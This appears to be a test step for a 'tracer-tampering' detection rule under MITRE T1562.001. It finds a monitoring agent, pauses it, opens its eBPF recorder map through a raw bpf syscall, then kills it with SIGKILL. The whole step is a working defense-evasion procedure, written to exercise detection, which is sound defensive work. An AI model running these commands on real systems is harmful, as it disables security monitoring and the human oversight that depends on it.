# incident: T1562.001, impair defenses; bpf-based monitors blinded by their maps, 2021 and since
# what: a job that is root looks for the agent, halts it, opens a table of its recorder, and kills it
# rule: tracer-tampering
## step: Test
grep -q muster-agent /proc/$AGENT/comm
kill -STOP $AGENT && kill -CONT $AGENT
python3 - <<'Y'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(struct.pack('I', int(os.environ['RECORDER_MAP'])), 120)
fd = libc.syscall({'x86_64': 321, 'aarch64': 280}[os.uname().machine], 14, attr, 120)
assert fd >= 0, os.strerror(ctypes.get_errno())
os.close(fd)
Y
kill -KILL $AGENT
